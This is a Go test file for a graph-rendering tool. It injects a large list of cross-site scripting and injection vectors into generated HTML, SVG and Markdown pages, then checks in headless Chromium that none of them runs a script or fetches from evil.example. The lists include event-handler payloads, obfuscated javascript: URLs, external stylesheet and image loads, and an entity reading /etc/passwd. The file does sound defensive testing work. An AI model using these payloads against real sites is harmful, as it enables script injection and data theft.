package pagetest

import (
	"fmt"
	"slices"
	"strings"
	"testing"
	"unicode"

	"example.org/graphgen/internal/entities"
	"example.org/graphgen/internal/htmltest"
	"example.org/graphgen/internal/judges/chromium"
	"example.org/graphgen/internal/soak"
)

// breakouts end what a text may stand in: an attribute, an element, a comment, a rule, a string
// of a script, a template.
var breakouts = []string{"", `">`, `'>`, `"/>`, "</title>", "</style>", "</script>", "</desc></svg>", "</text></g>", "]]>", "-->",
	"</textarea>", "</a>", "</figcaption></figure>", "</details></table>", "`}", `\");`, `';`, "}</style>", "*/", "{{", "](", "\n\n", "&lt;/style&gt;"}

// payloads run a script or ask for something, if they are taken for markup.
var payloads = []string{
	`<script>canary(1)</script>`, `<script src=//evil.example/1.js></script>`, `<img src=x onerror=canary(2)>`, `<img src=https://evil.example/2.png>`,
	`<svg onload=canary(3)>`, `<svg><script>canary(4)</script></svg>`, `<svg><animate onbegin=canary(5) attributeName=x>`, `<svg><a href="javascript:canary(6)">x</a>`,
	`<svg><use href="data:image/svg+xml,<svg id=x onload=canary(7)>#x">`, `<svg><image href="https://evil.example/3.png">`, `<iframe srcdoc="<script>parent.canary(8)</script>">`,
	`<iframe src="javascript:parent.canary(9)">`, `<body onload=canary(10)>`, `<details open ontoggle=canary(11)>x`, `<style>@import 'https://evil.example/4.css';</style>`,
	`<link rel=stylesheet href=https://evil.example/5.css>`, `<meta http-equiv=refresh content="0;url=https://evil.example/6">`, `<base href=https://evil.example/>`,
	`<object data=https://evil.example/7></object>`, `<embed src=https://evil.example/8>`, `<video src=x onerror=canary(12)>`, `<video poster=https://evil.example/9.png>`,
	`<audio src=x onerror=canary(13)>`, `<input autofocus onfocus=canary(14)>`, `<marquee onstart=canary(15)>x</marquee>`, `<math><mtext><style><img src=x onerror=canary(16)></style>`,
	`<a href="javascript:canary(17)">x</a>`, `<template><img src=x onerror=canary(18)></template>`, `<p style="background:url(https://evil.example/10.png)">`,
	`<style>*{background:url(https://evil.example/11.png)}</style>`, `<![CDATA[<img src=x onerror=canary(19)>]]>`, `<!ENTITY x SYSTEM "file:///etc/passwd">`,
	`<?xml-stylesheet href="https://evil.example/12.css"?>`, `<foreignObject><img src=x onerror=canary(20)></foreignObject>`, `onmouseover=canary(21) autofocus onfocus=canary(21) x=`,
	`<noscript><p title="</noscript><img src=x onerror=canary(22)>">`, `![x](https://evil.example/13.png)`, `[x](javascript:canary(23))`, `<https://evil.example/14>`,
	`{{ printf "%s" (readFile "x") }}`, `{% include x %}`, `${canary(24)}`, `\u003cimg src=x onerror=canary(25)\u003e`, `&#60;img src=x onerror=canary(26)&#62;`,
}

// addresses lead where no page may: to a script, a file, or elsewhere than they seem to.
var addresses = []string{
	"javascript:canary(40)", "JaVaScRiPt:canary(41)", " javascript:canary(42)", "\x01javascript:canary(43)", "java\tscript:canary(44)", "java\nscript:canary(45)",
	"&#106;avascript:canary(46)", "javascript&colon;canary(47)", "%6aavascript:canary(48)", "javascript:/*--></title></style></script><svg onload=canary(49)>*/",
	"javascript://host.example/%0acanary(50)", "data:text/html,<script>canary(51)</script>", "data:image/svg+xml,<svg onload=canary(52)>", "DATA:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=",
	"vbscript:canary(53)", "blob:https://evil.example/x", "filesystem:https://evil.example/x", "file:///etc/passwd", "jar:https://evil.example!/x", "view-source:https://evil.example",
	"//evil.example/", "\\\\evil.example\\x", "about:blank", "livescript:canary(54)", "feed:javascript:canary(55)", "mhtml:x", "https:javascript:canary(56)",
	`https://a.example/" onmouseover="canary(57)`, `https://a.example/' onfocus='canary(58)`, "https://a.example/><script>canary(59)</script>", "https://a.example/)](javascript:canary(60))",
	"http://[::1", "https://", "mailto:a@b.example", "tel:1", "intent:x", "chrome://settings", "ws://evil.example", "ftp://evil.example/x",
}

// vectors are all breakouts before all payloads, and the addresses.
func vectors() []string {
	var all []string
	for _, breakout := range breakouts {
		for _, payload := range payloads {
			all = append(all, breakout+payload)
		}
	}
	return append(all, addresses...)
}

// hostileCase has vectors in each of its texts, in turn, and apart from that in those that are not
// printed; what needs an address has one of those.
func hostileCase(texts []string, round int) *entities.Case {
	next := func(list []string, from int) func() string {
		at := from - 1
		return func() string { at++; return list[at%len(list)] }
	}
	shown, unseen, address := next(texts, 0), next(texts, round), next(addresses, round)
	v := func() entities.Text { return entities.Text{"en": shown()} }
	c := &entities.Case{Version: 1, Title: entities.Text{"en": unseen()}, Language: "en", AsOf: "2024-03", Credit: v()}
	var ids []string
	for i, kind := range slices.Repeat([]entities.EntityType{entities.Person, entities.Ministry, entities.Country, entities.Group, entities.Media, entities.Law, entities.Event, entities.Organization}, 2) {
		id := fmt.Sprintf("e%d", i)
		ids = append(ids, id)
		c.Entities = append(c.Entities, entities.Entity{ID: id, Type: kind, Name: v(), Aliases: []string{unseen()}, Description: entities.Text{"en": unseen()}, Links: []string{address()}})
	}
	c.Sources = []entities.Source{
		{ID: "s0", Type: entities.Article, Title: v(), Publisher: "e4", URL: address()},
		{ID: "s1", Type: entities.Post, Title: v(), URL: address(), Archived: address()},
	}
	claim := func(id string, standing entities.Standing) string {
		c.Claims = append(c.Claims, entities.Claim{ID: id, Source: fmt.Sprintf("s%d", len(c.Claims)%2), Speaker: ids[len(c.Claims)%len(ids)], RelayedBy: "e4",
			Quote: shown(), Hedge: entities.Words{shown()}, Standing: standing})
		return id
	}
	for i, kind := range slices.Repeat([]string{"bribed", "heads", "part-of", "met-with", "own", "operates-in"}, 2) {
		standing := []entities.Standing{entities.Alleged, entities.Stated, entities.Rumoured}[i%3]
		c.Relations = append(c.Relations, entities.Relation{ID: fmt.Sprintf("r%d", i), Type: kind, From: ids[i], To: ids[i+1], Label: v(), Claims: []string{claim(fmt.Sprintf("c%d", i), standing)}})
	}
	c.Claims = append(c.Claims, entities.Claim{ID: "denial", Source: "s1", Speaker: "e0", Quote: shown(), Standing: entities.Stated, Answers: entities.Answer{Claim: "c0", As: entities.Denies}})
	c.RelationTypes = map[string]entities.RelationType{"own": {Label: entities.Text{"en": unseen()}, Inverse: entities.Text{"en": unseen()}}}
	c.Flows = []entities.Flow{{ID: "f", What: v(), Label: v(), Via: []string{"e2"}, To: []string{"e3"}, Claims: []string{claim("cf", entities.Alleged)}}}
	c.Figures = []entities.Figure{{ID: "n", Question: v(), About: []string{"e2"}, Values: []entities.Value{
		{Value: "12", Measure: v(), Qualifier: v(), Unit: v(), PeriodText: v(), Claims: []string{claim("cv", entities.Stated)}},
		{Value: "13", Measure: v(), Period: "2024", Claims: []string{claim("cw", entities.Stated)}},
	}}}
	c.Corrections = []entities.Correction{{Date: "2024-02-15", Text: v()}}
	c.Views = []entities.View{{ID: "v", Title: v(), Caption: v(), Cluster: entities.ByType,
		Include: entities.Selection{Types: []string{"person", "ministry", "country", "group", "media", "law", "event", "organization", "flow", "figure"}}}}
	return c
}

// leading asks for links and images of a page that lead to what is no file of the web.
const leading = `[...document.querySelectorAll("[href], [src]")]
	.map(e => e.href?.baseVal ?? e.href ?? e.src)
	.filter(address => !/^https?:$/.test(URL.parse(address, location)?.protocol))`

// Whatever texts and addresses a case has, none of the forms that it is published in runs a
// script of theirs or asks for anything, in a page, as an image, in a frame or by itself.
func TestHostile(t *testing.T) {
	t.Parallel()
	tab := chromium.Start(t)
	site := chromium.Serve(t, tab)
	texts := vectors()
	if len(texts) < 500 {
		t.Fatalf("%d vectors are too few", len(texts))
	}
	const each = 72 // of which each is printed, as is seen
	tried, refused := 0, 0
	for round := 0; round*each < len(texts) && round < soak.Cases(len(texts), 3); round++ {
		some := texts[round*each : min(len(texts), (round+1)*each)]
		c := hostileCase(some, round)
		drawn, err := draw(fmt.Sprintf("round %d", round), c, "en", prefix)
		if err != nil {
			t.Logf("round %d is refused: %v", round, err)
			refused += len(some)
			continue
		}
		tried += len(some)
		printed := letters(textOf(htmltest.Parse(t, drawn[0].files["figure.html"])))
		for _, text := range some {
			if !strings.Contains(printed, letters(text)) {
				t.Errorf("round %d: %q is printed nowhere", round, text)
			}
		}
		files, pages := hosted(t, drawn[0])
		for _, page := range pages {
			did := site.Visit(t, files, page, 900)
			for _, asked := range did.Asked {
				t.Errorf("round %d: %s asks for %q", round, page, asked)
			}
			for _, ran := range did.Ran {
				t.Errorf("round %d: %s runs %s", round, page, ran)
			}
			if leads := chromium.Evaluate[[]string](t, tab, leading); len(leads) > 0 {
				t.Errorf("round %d: %s leads to %q", round, page, leads)
			}
		}
	}
	t.Logf("%d texts were drawn, %d refused", tried, refused)
	if refused > len(texts)/10 {
		t.Errorf("%d texts of %d were refused: too many to judge by", refused, len(texts))
	}
}

// letters is a text without what may be written in other ways: white space, signs that set its
// parts apart or cannot be seen.
func letters(text string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsLetter(r) || unicode.IsDigit(r) {
			return r
		}
		return -1
	}, text)
}

// hosted are the files of a site that shows a bundle in every way, and its pages.
func hosted(t testing.TB, b *bundle) (files map[string]string, pages []string) {
	files = map[string]string{}
	for name, data := range b.files {
		files[name] = data
	}
	files["inline.html"] = "<!doctype html><html lang=en><meta charset=utf-8><title>Host</title><body>" + b.files["figure.html"] + b.files["embed.html"] +
		`<img src="v.svg" alt=""><img src="v.narrow.svg" alt=""><object data="v.svg" type="image/svg+xml"></object>`
	files["image.html"] = "<!doctype html><html lang=en><meta charset=utf-8><title>Host</title><body>" + b.files["figure.img.html"]
	files["markdown.html"] = "<!doctype html><html lang=en><meta charset=utf-8><title>Host</title><body>" + asHTML(t, b.files["v.md"])
	return files, []string{"inline.html", "image.html", "markdown.html", "page.html", "v.svg", "v.narrow.svg"}
}

// The judge finds what runs or asks for something in each way of showing a bundle.
func TestHostileFaults(t *testing.T) {
	t.Parallel()
	tab := chromium.Start(t)
	site := chromium.Serve(t, tab)
	drawn, err := draw("plain", hostileCase([]string{"Ada"}, 33), "en", prefix)
	if err != nil {
		t.Fatal(err)
	}
	files, pages := hosted(t, drawn[0])
	for _, page := range pages {
		planted := map[string]string{}
		for name, data := range files {
			planted[name] = data
		}
		fault := `<img src="https://evil.example/x.png"/><a href="javascript:canary(1)">x</a>`
		if strings.HasSuffix(page, ".svg") {
			fault = `<image href="https://evil.example/x.png"/><a href="javascript:canary(1)"/><script>canary(2)</script></svg>`
			planted[page] = strings.Replace(planted[page], "</svg>", fault, 1)
		} else {
			planted[page] += fault + `<p><script>canary(2)</script>`
		}
		if page == "page.html" {
			planted[page] = strings.Replace(planted[page], "http-equiv", "data-was", 1) // its policy keeps these from running
		}
		did := site.Visit(t, planted, page, 900)
		if !slices.Contains(did.Asked, "https://evil.example/x.png") || len(did.Ran) == 0 {
			t.Errorf("%s: found %v", page, did)
		}
		if leads := chromium.Evaluate[[]string](t, tab, leading); len(leads) == 0 {
			t.Errorf("%s: the address of a script is not found", page)
		}
	}
}
